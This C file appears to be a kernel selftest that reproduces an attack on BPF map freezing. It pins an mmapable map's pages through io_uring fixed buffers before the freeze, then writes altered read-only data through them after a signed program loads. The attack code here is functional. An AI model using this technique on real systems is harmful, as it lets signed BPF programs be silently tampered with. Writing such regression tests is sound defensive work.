// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * ATTACKS row 8 - metadata written through a page that is pinned
 *
 * A map that can be mapped is frozen once nobody has it mapped for writing. Who had, and has given its
 * pages to io_uring as a buffer, writes to them as before. Nothing of that needs luck.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include "machine.h"

#define OTHER_RETVAL 13 /* what the victim's program returns if its read-only data is another */

struct ring {
	int fd;
	struct io_uring_params p;
	char *sq; /* both queues */
	struct io_uring_sqe *sqe;
};

static int ring_open(struct ring *r)
{
	size_t size;

	memset(r, 0, sizeof(*r));
	r->fd = syscall(__NR_io_uring_setup, 1, &r->p);
	if (r->fd < 0 || !(r->p.features & IORING_FEAT_SINGLE_MMAP))
		return -1;
	size = r->p.cq_off.cqes + r->p.cq_entries * sizeof(struct io_uring_cqe);
	r->sq = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
	r->sqe = mmap(NULL, sizeof(*r->sqe), PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQES);
	return r->sq == MAP_FAILED || r->sqe == MAP_FAILED ? -1 : 0;
}

/* Read @n bytes of @fd to @addr, which the ring has as its buffer 0. Return: what read() would. */
static int ring_read(struct ring *r, int fd, void *addr, uint32_t n)
{
	uint32_t *tail = (uint32_t *)(r->sq + r->p.sq_off.tail);
	struct io_uring_cqe *cqe = (struct io_uring_cqe *)(r->sq + r->p.cq_off.cqes);

	*r->sqe = (struct io_uring_sqe){
		.opcode = IORING_OP_READ_FIXED, .fd = fd, .addr = (uintptr_t)addr, .len = n};
	*(uint32_t *)(r->sq + r->p.sq_off.array) = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		return -1;
	return cqe->res;
}

/* The metadata, made and frozen by the book, and where it was mapped; the ring has it pinned. */
static void *make_pinned(struct load *l, struct ring *ring)
{
	union bpf_attr attr = {0};
	struct iovec iov;
	int fd;

	l->not_frozen = true;
	l->map_flags = BPF_F_MMAPABLE;
	fd = load_make_map(l);
	iov.iov_len = l->data_sz;
	iov.iov_base = mmap(NULL, l->data_sz, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (fd < 0 || iov.iov_base == MAP_FAILED || ring_open(ring) ||
	    syscall(__NR_io_uring_register, ring->fd, IORING_REGISTER_BUFFERS, &iov, 1))
		return NULL;
	munmap(iov.iov_base, iov.iov_len);
	attr.map_fd = fd;
	return sys_bpf(BPF_MAP_FREEZE, &attr, sizeof(attr)) ? NULL : iov.iov_base;
}

/* The victim's metadata with other read-only data, in a file. */
static int other_data(const struct load *l)
{
	int fd = memfd_create("other", MFD_CLOEXEC);
	char *p = malloc(l->data_sz), *at;

	if (fd < 0 || !p)
		return -1;
	memcpy(p, l->data, l->data_sz);
	at = memmem(p, l->data_sz, "AAAAAAAA", 8);
	if (at)
		*at = 'B';
	if (!at || write(fd, p, l->data_sz) != (ssize_t)l->data_sz)
		return -1;
	free(p);
	return fd;
}

static void pinned(struct machine *m)
{
	uint32_t retval = 0;
	struct ring ring;
	struct load l;
	int fd, err;
	void *at;

	load_loader(m, &l);
	at = make_pinned(&l, &ring);
	if (!at) {
		attack_fail(m, "cannot have the metadata pinned");
		load_free(&l);
		return;
	}
	fd = load_prog(m, &l);
	if (ring_read(&ring, other_data(&l), at, l.data_sz) != (int)l.data_sz)
		attack_fail(m, "the pinned pages cannot be written");
	err = fd < 0 ? fd : load_run_victim(fd, &retval);
	if (attack_on_mainline(m) ? err || retval != OTHER_RETVAL : err != -EINVAL)
		attack_fail(m, "the run ended with %d, what it loaded returned %u", err, retval);
	close(ring.fd);
	load_free(&l);
}

static const struct attack table[] = {
	{"08-pinned",
	 "metadata map written by io_uring, which had its pages pinned before it was frozen: does not run",
	 pinned,
	 {0},
	 "OK",
	 "signed",
	 0},
	{0},
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, table);
}
